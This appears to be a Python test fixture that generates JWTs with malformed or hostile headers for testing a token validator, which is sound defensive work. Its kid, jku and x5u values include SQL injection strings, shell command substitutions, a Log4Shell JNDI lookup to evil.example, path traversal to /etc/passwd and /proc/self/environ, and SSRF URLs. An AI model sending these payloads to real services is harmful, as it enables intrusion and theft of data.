"""Tokens with a bad header: its JSON, `typ`, `kid`, `crit`, and members that refer to keys."""

import json
from collections.abc import Callable
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric import rsa

from ops.testing.bad_tokens.builders import BadToken, header, pad, with_header, with_segments
from ops.testing.token_issuer import TokenIssuer, encode, new_key, public_jwk

_DROP: Final = TokenIssuer.DROP
_ELSEWHERE: Final = "https://evil.example/jwks.json"


def _with_own_key(
    name: str, members: Callable[[rsa.RSAPrivateKey], dict[str, Any]], kid: str | None
) -> BadToken:
    """A token signed with a key that the token itself contains or refers to."""

    def build(issuer: TokenIssuer) -> str:
        key = new_key()
        head = issuer.header(**members(key), **({"kid": kid} if kid else {}))
        return issuer.sign(json.dumps(head), json.dumps(issuer.claims()), key=key)

    return BadToken(
        f"{name}, under {'a kid of its own' if kid else 'our kid'}",
        "unknown-key" if kid else "signature",
        build,
    )


_OWN_KEYS: Final[dict[str, Callable[[rsa.RSAPrivateKey], dict[str, Any]]]] = {
    "another key": lambda _: {},
    "jwk": lambda key: {"jwk": public_jwk("own", key)},
    "jku": lambda _: {"jku": _ELSEWHERE},
    "x5u": lambda _: {"x5u": _ELSEWHERE},
    "x5c": lambda _: {"x5c": ["MIIB"], "x5t": "AAAA"},
    "jku to this machine": lambda _: {"jku": "http://127.0.0.1:1/"},
    "jku to a file": lambda _: {"jku": "file:///etc/passwd"},
}

_UNKNOWN_KIDS: Final[tuple[object, ...]] = (
    *(_DROP, None, "", " ", "second", "FIRST", "first ", " first", "first\0", "*", "k" * 255, "k" * 256),
    *("../../etc/passwd", "/dev/null", "/proc/self/environ", "http://127.0.0.1:1/", _ELSEWHERE),
    *(
        "' OR '1'='1",
        "first' --",
        "'; DROP TABLE log.events; --",
        "first' UNION SELECT 'secret",
        "$(id)",
        "`id`",
    ),
    *(
        "| id",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%00",
        "first%00",
        "<script>",
        "\r\nX: y",
        "\ud800",
    ),
    *(0, 1, -1, 1.5, True, ["first"], [], {"first": 1}, {}, "ﬁrst", "f\u0456rst"),
)

_TYPES: Final[tuple[object, ...]] = (
    *(
        _DROP,
        None,
        "",
        " ",
        "JWE",
        "JOSE",
        "JWT ",
        "jwt\0",
        "id+jwt",
        "id_token",
        "logout+jwt",
        "dpop+jwt",
        "rt+jwt",
    ),
    *(
        "secevent+jwt",
        "text/at+jwt",
        "application/",
        "application/application/jwt",
        "at+jwt;v=1",
        "at jwt",
        "at",
    ),
    *(["JWT"], {"typ": "JWT"}, 1, True),
)

_LATIN_1: Final = b'{"alg": "\xff"}'

_CRITICAL: Final[tuple[object, ...]] = (
    *(["exp"], ["b64"], ["alg"], ["https://evil.example/x"], ["a"] * 50, [], [1], "exp", {}, 0, False, None),
)

_HEADERS: Final[dict[str, Callable[[str], str]]] = {
    "header is not JSON": lambda _: "not json",
    "header is a list": lambda text: f"[{text}]",
    "header is a string": lambda _: '"RS256"',
    "header is a number": lambda _: "256",
    "header is null": lambda _: "null",
    "two headers": lambda text: text + text,
    "header with a trailing comma": lambda text: text[:-1] + ",}",
    "header with a byte order mark": lambda text: "\ufeff" + text,
    "header in single quotation marks": lambda text: text.replace('"', "'"),
    "header with a comment": lambda text: text[:-1] + "/* */}",
    "header of a thousand brackets": lambda _: "[" * 1000,
    "header of a thousand braces": lambda _: '{"a":' * 300 + "1" + "}" * 300,
    "an extension nested 40 deep": lambda text: pad(text, '"x": ' + "[" * 40 + "]" * 40),
    "header over 1 536 bytes": lambda text: pad(text, f'"x": "{"y" * 1600}"'),
    "alg twice, the good one last": lambda text: '{"alg": "none", ' + text[1:],
    "alg twice, the good one first": lambda text: pad(text, '"alg": "none"'),
    "alg twice, escaped": lambda text: pad(text, r'"\u0061lg": "none"'),
    "typ twice": lambda text: pad(text, '"typ": "at+jwt"'),
    "kid twice": lambda text: pad(text, '"kid": "first"'),
    "an extension twice": lambda text: pad(text, '"x": 1, "x": 1'),
    "NaN in the header": lambda text: pad(text, '"x": NaN'),
    "an infinity in the header": lambda text: pad(text, '"x": -Infinity'),
    "a number without an exponent": lambda text: pad(text, '"x": ' + "9" * 1500 + "e"),
    "a number of 1 400 digits": lambda text: pad(text, '"x": ' + "9" * 1400 + "x"),
}

TOKENS: Final = (
    # --- the JSON of the header
    with_segments(
        "header is not base64url of whole bytes", "malformed", lambda _, p, s: f"{'A' * 5}.{p}.{s}"
    ),
    with_segments("header is not UTF-8", "malformed", lambda _, p, s: f"{encode(_LATIN_1)}.{p}.{s}"),
    with_segments(
        "header in UTF-16", "malformed", lambda _, p, s: f"{encode('{}'.encode('utf-16'))}.{p}.{s}"
    ),
    with_segments(
        "header is compressed", "malformed", lambda _, p, s: f"{encode(bytes([120, 156, 3, 0]))}.{p}.{s}"
    ),
    with_segments("header cut", "malformed", lambda h, p, s: f"{h[: len(h) // 8 * 4]}.{p}.{s}"),
    *(with_header(name, "malformed", change) for name, change in _HEADERS.items()),
    # --- critical extensions and type
    *(header("crit", value, "critical") for value in _CRITICAL),
    with_header("unencoded payload", "critical", lambda text: pad(text, '"b64": false, "crit": ["b64"]')),
    *(header("typ", value, "type") for value in _TYPES),
    # --- keys
    *(header("kid", value, "unknown-key") for value in _UNKNOWN_KIDS),
    *(_with_own_key(name, members, kid) for name, members in _OWN_KEYS.items() for kid in (None, "own")),
)
